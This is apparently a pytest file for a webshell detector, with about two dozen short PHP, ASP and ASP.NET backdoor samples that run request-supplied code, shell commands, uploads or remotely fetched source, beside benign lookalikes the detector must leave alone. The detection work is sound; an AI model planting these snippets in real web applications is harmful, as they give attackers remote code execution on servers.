"""What is put into a text of the page's own, what is left of one, and under which names files are kept."""

import pytest

from indicia.detection.webshell.judging import judge_script
from indicia.model.finding import Severity

_CLIENT = "$m = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); mysqli_query($m, $_POST['q']);"
_ROT = (
    'function rot(s) { var r = ""; for (var i = 0; i < s.length; i++) { '
    'r += String.fromCharCode(s.charCodeAt(i) - 13); } return r; } var q = String(Request.QueryString("q")); '
)
_FILEUP = (
    'Set u = Server.CreateObject("SoftArtisans.FileUp")\nnm = Mid(u.UserFilename, InStrRev(u.UserFilename, "\\") + 1)\n'
    'u.SaveAs Server.MapPath("/up/" & nm)\n'
)
_FILLS = (
    'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
    'Set f = fs.CreateTextFile(Server.MapPath("part.inc"), True)\n'
)
_PIECES = "class C { private $f = array('b', 'a', 's', 'e', '6', '4'); public function go() { "
FOUND = {
    "a pattern of the request": ("x.php", "<?php preg_replace($_POST['p'], $_POST['r'], 'a');"),
    "a pattern whose end is the request's": (
        "x.php",
        "<?php $d = pick(); $p = $d . $_POST['p']; preg_replace($p, $_POST['r'], 'a');",
    ),
    "text that is included": ("x.php", "<?php include 'data://text/plain;base64,' . base64_encode($_POST['d']);"),
    "a path that stands in an uploaded file": (
        "x.php",
        "<?php $p = trim(file_get_contents($_FILES['p']['tmp_name'])); "
        "file_put_contents($p, file_get_contents($_FILES['c']['tmp_name']));",
    ),
    "letters are no code, but brackets are": (
        "x.php",
        "<?php $n = preg_replace('/[^a-z(){};$_\\[\\]]/', '', $_POST['n']); file_put_contents('m.php', '<?php ' . $n);",
    ),
    "only the first sign is taken out": (
        "x.php",
        "<?php $n = preg_replace('/[^a-z]/', '', $_POST['n'], 1); file_put_contents($n, $_POST['c']);",
    ),
    "letters that are decoded": (
        "x.php",
        "<?php $n = base64_decode(preg_replace('/[^A-Za-z0-9+=]/', '', $_POST['n'])); file_put_contents('m.php', $n);",
    ),
    "a function whose name a field of the class holds in pieces": (
        "x.php",
        f"<?php {_PIECES} $d = implode('', $this->f) . '_decode'; $x = explode('|', $d($_COOKIE['t'])); "
        "$c = $x[0]; $c($x[1]); }} (new C)->go();",
    ),
    "any function by a method that is not there": (
        "x.php",
        "<?php $m = new class { public function __call($n, $a) { return call_user_func_array($n, $a); } }; "
        "$n = $_POST['n']; $m->$n(...(array)$_POST['a']);",
    ),
    "a shell that is given the line in a list": (
        "x.php",
        "<?php proc_open(['sh', '-c', $_POST['c']], [1 => ['pipe', 'w']], $p);",
    ),
    "code that is made under another name": (
        "x.asp",
        '<%@ Language="JScript" %><% var f = Function; (new f("Response", "" + Request.Form("b")))(Response); %>',
    ),
    "a function whose name is worked out": (
        "x.asp",
        f'<%@ Language="JScript" %><% {_ROT} this[rot("rinz")](rot(q)); %>',
    ),
    "an expression that starts programs": (
        "x.aspx",
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = '
        "Expression.Parameter(typeof(string)); var c = Expression.Call(typeof(System.Diagnostics.Process).GetMethod("
        '"Start", new[] { typeof(string) }), p); var f = Expression.Lambda<Func<string, '
        'System.Diagnostics.Process>>(c, p).Compile(); f(Request["z"]); }</script>',
    ),
    "objects of any class from a text": (
        "x.aspx",
        '<%@ Page Language="C#" %><% var j = new JavaScriptSerializer(new SimpleTypeResolver()); '
        'Response.Write(j.DeserializeObject(Request.Form["o"])); %>',
    ),
    "methods of a class whose name is hidden": (
        "x.aspx",
        '<%@ Page Language="C#" %><script runat="server">static string N(params int[] a) { var b = new StringBuilder();'
        " foreach (int i in a) b.Append((char)(i ^ 7)); return b.ToString(); } void Page_Load(object s, EventArgs e) { "
        "var t = typeof(Uri).Assembly.GetType(N(84, 126, 116, 115, 98, 106, 41)); foreach (var m in t.GetMethods()) if "
        '(m.Name == N(84, 115)) m.Invoke(null, new object[] { Request.Headers["A"] }); }</script>',
    ),
    "an upload by its bytes": (
        "x.aspx",
        '<%@ Page Language="C#" %><% var f = Request.Files[0]; var b = new byte[f.ContentLength]; '
        "f.InputStream.Read(b, 0, b.Length); "
        'File.WriteAllBytes(Server.MapPath("./" + f.FileName), b); %>',
    ),
    "a filter that calls any function": (
        "x.php",
        "<?php iterator_to_array(new CallbackFilterIterator(new ArrayIterator([$_POST['a']]), $_POST['f']));",
    ),
    "an upload is executed": ("x.asp", f'<% {_FILEUP}Server.Transfer "/up/" & nm %>'),
    "an upload is executed in ASP.NET": (
        "x.aspx",
        '<%@ Page Language="C#" %><% var f = Request.Files[0]; string ext = Path.GetExtension(f.FileName); '
        'f.SaveAs(Server.MapPath("~/up/" + f.FileName)); Server.Execute("~/up/" + f.FileName); %>',
    ),
    "a file that is filled is included": (
        "x.asp",
        f'<% {_FILLS}f.Write Request.Form("c")\nf.Close %><!--#include file="part.inc"-->',
    ),
    "a function of a library in Visual Basic": (
        "x.aspx",
        '<%@ Page Language="VB" %><script runat="server">\n<DllImport("k.dll")> Shared Function WinExec(ByVal c As '
        "String, ByVal n As Integer) As Integer\nEnd Function\nSub Page_Load()\nResponse.Write(WinExec("
        'Request.Form("c"), 0))\nEnd Sub\n</script>',
    ),
    "code that another server sends later": (
        "x.aspx",
        '<%@ Page Language="C#" %><script runat="server">async Task Do() { var h = new HttpClient(); var s = await '
        'h.GetStringAsync("https://a.example.org/s.txt"); new CSharpCodeProvider().CompileAssemblyFromSource(new '
        "CompilerParameters(), s); } void Page_Load(object o, EventArgs e) { Register(new PageAsyncTask(Do)); }"
        "</script>",
    ),
    "a statement of the request": ("x.php", f"<?php {_CLIENT}"),
    "a text of the page with the request's in it": (
        "x.php",
        "<?php eval(str_replace('#', $_POST['c'], 'echo 1; #'));",
    ),
    "an ending of a program": (
        "x.ashx",
        '<%@ WebHandler Language="C#" Class="H" %> public class H : IHttpHandler { public void ProcessRequest('
        'HttpContext c) { var q = c.Request; File.WriteAllText(Path.Combine(q["d"], q["n"] + ".soap"), q["c"]); } }',
    ),
    "nothing gives the name of the file": (
        "x.asp",
        '<% Set s = Server.CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write Request.BinaryRead('
        "Request.TotalBytes): s.SaveToFile target, 2 %>",
    ),
    "the request gives it to a method": (
        "x.asp",
        '<% Class Up\nPublic Sub Save(target, kind)\nSet s = Server.CreateObject("ADODB.Stream"): s.Type = 1: s.Open\n'
        "s.Write Request.BinaryRead(Request.TotalBytes): s.SaveToFile target, kind\nEnd Sub\nEnd Class\n"
        'Set u = New Up\nu.Save Request.QueryString("n"), 2 %>',
    ),
}
ORDINARY = {
    "a pattern between limits": (
        "x.php",
        "<?php $d = ['/', '#']; $i = pick(); $p = $d[$i] . $_POST['p'] . $d[$i]; preg_replace($p, $_POST['r'], $row);",
    ),
    "the name under which the server keeps an upload": (
        "x.php",
        "<?php if ($_FILES['a']['tmp_name']) { $f = $_FILES['a']['tmp_name']; $_SESSION['s'] = file_get_contents($f); }"
        "elseif (isset($_SESSION['s'])) { $f = sys_get_temp_dir() . '/i' . rand(); "
        "file_put_contents($f, $_SESSION['s']); }",
    ),
    "it is deleted": ("x.php", "<?php $f = $_FILES['a']['tmp_name']; load($f); unlink($f);"),
    "letters in a page that is written": (
        "x.php",
        "<?php $n = preg_replace('/[^A-Za-z]/', '', $_POST['n']); $c = \"<?php\\nclass {$n}Module {}\\n\";"
        'file_put_contents("modules/$n/$n.php", $c);',
    ),
    "a field that is filled elsewhere": (
        "x.php",
        f"<?php {_PIECES} $d = implode('', $this->f) . '_x'; $x = explode('|', $_COOKIE['t']); $d($x[0]); }}"
        " public function set($f) { $this->f = $f; } }",
    ),
    "methods of its own by a name of the request": (
        "x.php",
        "<?php class R { public function __call($n, $a) { return isset($this->all[$n]) ? $this->all[$n] : null; } } "
        "$r = new R; $n = $_POST['n']; echo htmlspecialchars($r->$n($_POST['a']));",
    ),
    "a program in a list that is given a name": (
        "x.php",
        "<?php $n = $_POST['n']; if (!preg_match('~^[a-z0-9-]+/[a-z0-9-]+$~', $n)) throw new Exception('n'); "
        "proc_open(['php', 'composer.phar', 'require', $n], [1 => ['pipe', 'w']], $p);",
    ),
    "code of a column": (
        "x.php",
        "<?php $q = db_query('select use_function, value_of_it, its_title from configuration'); $c = db_row($q); "
        "$f = $c['use_function']; echo $f($c['value_of_it']), htmlspecialchars($_GET['t']);",
    ),
    "a text of the page that is changed like what is sent": (
        "x.asp",
        '<%@ Language="JScript" %><% function wrap(s) { for (var i = 0; i < 2; i++) { s = "(" + s + ")"; } return s; } '
        'Response.Write(wrap(String(Request("q")))); var one = eval(wrap("1+1")); %>',
    ),
    "objects of no class from a text": (
        "x.aspx",
        '<%@ Page Language="C#" %><% var j = new JavaScriptSerializer(); '
        'Response.Write(j.DeserializeObject(Request.Form["o"])); %>',
    ),
    "methods of a class that is named": (
        "x.aspx",
        '<%@ Page Language="C#" %><% foreach (var m in typeof(Shop.Api).GetMethods()) if (m.Name == "Show") '
        'm.Invoke(null, new object[] { Request.Headers["A"] }); %>',
    ),
    "an upload by its bytes under a name alone, outside": (
        "x.aspx",
        '<%@ Page Language="C#" %><% var f = Request.Files[0]; var b = new byte[f.ContentLength]; '
        "f.InputStream.Read(b, 0, b.Length); "
        'File.WriteAllBytes(@"D:\\in\\" + Path.GetFileName(f.FileName), b); %>',
    ),
    "a filter that calls a function of the page": (
        "x.php",
        "<?php echo count(iterator_to_array(new CallbackFilterIterator(new ArrayIterator([$_POST['a']]), 'strlen')));",
    ),
    "a revision for a program that is fixed": (
        "x.jsp",
        '<% String r = request.getParameter("r"); if (!r.matches("[0-9a-f]{7,40}")) { return; } '
        'Process p = new ProcessBuilder("git", "--git-dir=/srv/repo.git", "show", r).start(); %>',
    ),
    "another page is executed": (
        "x.asp",
        f'<% {_FILEUP}sk = "blue"\nServer.Execute "/skins/" & sk & ".asp"\nIf Right(nm, 4) <> ".jpg" Then Kill nm %>',
    ),
    "another file is included": (
        "x.asp",
        f'<% {_FILLS}f.Write Request.Form("c")\nf.Close %><!--#include file="head.inc"-->',
    ),
    "a text without signs is included": (
        "x.asp",
        f'<% {_FILLS}f.Write Server.HTMLEncode(Request.Form("c"))\nf.Close %><!--#include file="part.inc"-->',
    ),
    "a function of the page that is called like one of a library": (
        "x.aspx",
        '<%@ Page Language="VB" %><script runat="server">\nShared Function WinExec(ByVal c As String, ByVal n As '
        'Integer) As Integer\nReturn n\nEnd Function\nSub Page_Load()\nResponse.Write(WinExec(Request.Form("c"), 0))'
        "\nEnd Sub\n</script>",
    ),
    "what another server sends is shown": (
        "x.aspx",
        '<%@ Page Language="C#" %><script runat="server">async Task Do() { var h = new HttpClient(); var s = await '
        'h.GetStringAsync("https://a.example.org/s.txt"); Response.Write(Server.HtmlEncode(s)); } '
        "void Page_Load(object s, EventArgs e) { RegisterAsyncTask(new PageAsyncTask(Do)); }</script>",
    ),
    "files of a folder that are put in order": (
        "x.php",
        "<?php foreach (glob('*.php') as $f) { $t = file_get_contents($f); file_put_contents($f, trim($t)); } "
        "echo htmlspecialchars($_GET['q']);",
    ),
    "an expression that sorts": (
        "x.aspx",
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = '
        'Expression.Parameter(typeof(Item), "x"); var l = Expression.Lambda<Func<Item, object>>('
        'Expression.PropertyOrField(p, Request["sort"]), p).Compile(); g.DataSource = Item.All().OrderBy(l); '
        "}</script>",
    ),
    "a name in the statements of a set-up": (
        "x.php",
        "<?php $c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p'], $_POST['n']); "
        "foreach (explode(';', file_get_contents('schema.sql')) as $q) "
        "{ mysqli_query($c, str_replace('{p}', $_POST['prefix'], $q)); }",
    ),
    "a client that looks at a mark of its own": (
        "x.php",
        f"<?php if (!hash_equals($_SESSION['token'], $_POST['token'])) exit; {_CLIENT}",
    ),
    "a client for who has rights": (
        "x.jsp",
        '<% String q = request.getParameter("q"); if (session.getAttribute("admin") != null) { Connection c = '
        'DriverManager.getConnection(request.getParameter("u"), "a", "b"); ResultSet r = '
        "c.createStatement().executeQuery(q); } %>",
    ),
    "a part of a file in the folder for such": (
        "x.ashx",
        '<%@ WebHandler Language="C#" Class="H" %> public class H : IHttpHandler { public void ProcessRequest('
        'HttpContext c) { string id = Path.GetFileNameWithoutExtension(c.Request["name"]); string p = '
        'Path.Combine(Path.GetTempPath(), id + ".part"); using (var f = new FileStream(p, FileMode.Append)) { byte[] b '
        "= new byte[9]; c.Request.Files[0].InputStream.Read(b, 0, 9); f.Write(b, 0, 9); } } }",
    ),
    "an upload under an ending of the page's": (
        "x.php",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'in/' . $_FILES['f']['name'] . '.part');",
    ),
    "the page gives a method the name of the file": (
        "x.asp",
        '<% Class Up\nPublic Sub Save(target, kind)\nSet s = Server.CreateObject("ADODB.Stream"): s.Type = 1: s.Open\n'
        "s.Write Request.BinaryRead(Request.TotalBytes): s.SaveToFile target, kind\nEnd Sub\nEnd Class\n"
        'Set u = New Up\nu.Save Server.MapPath("/pics/" & Session("uid") & ".jpg"), 2 %>',
    ),
}


@pytest.mark.parametrize(("name", "code"), FOUND.values(), ids=FOUND)
def test_what_a_client_chooses_is_found(name: str, code: str) -> None:
    verdict = judge_script(code.encode(), name)
    assert verdict is not None
    assert verdict.severity >= Severity.MEDIUM


@pytest.mark.parametrize(("name", "code"), ORDINARY.values(), ids=ORDINARY)
def test_what_the_page_itself_chooses_is_not(name: str, code: str) -> None:
    assert judge_script(code.encode(), name) is None
